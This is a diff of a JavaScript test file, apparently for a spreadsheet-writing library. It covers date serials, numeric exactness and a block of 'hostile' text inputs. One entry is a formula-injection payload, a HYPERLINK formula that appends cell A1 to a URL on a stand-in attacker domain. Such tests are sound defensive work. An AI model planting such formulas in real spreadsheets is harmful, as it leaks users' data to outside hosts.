@@ -35,12 +35,12 @@ describe('days and numbers', () => {
           expect(numbers).toEqual([1_234_560 + i, 0.01234, 1234.5]);
         });
       });
-      // 2026-11-19 is day 46345 and 2024-02-29 is 995 days before: 263 days to 19 Nov 2024, and two years.
+      // 2026-11-19 is day 46345. 2024-02-29 is 994 days before: 264 days before 2024-11-19, and two years of 365.
       expect([cell(world, 2, 1).value, cell(world, 3, 1).value]).toEqual([46_345, 46_345 - 264 - 730]);
     },
   );
 
-  test('numbers are exact', () => {
+  test('are exact, from the smallest number to the largest safe integer', () => {
     const numbers = [0.1 + 0.2, 1e-7, 12_345_678.905, 5e-324, Number.MAX_SAFE_INTEGER, 0];
     const world = googleWorld({ timeZone: 'Etc/UTC', locale: 'de_DE' });
     writeTable(world, typed(...numbers.map((value) => ['2026-11-19', 'x', 1, value, value])), NEW_DATA);
@@ -50,7 +50,7 @@ describe('days and numbers', () => {
   });
 });
 
-describe('text', () => {
+describe('text in a block', () => {
   const HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
     '=1+1',
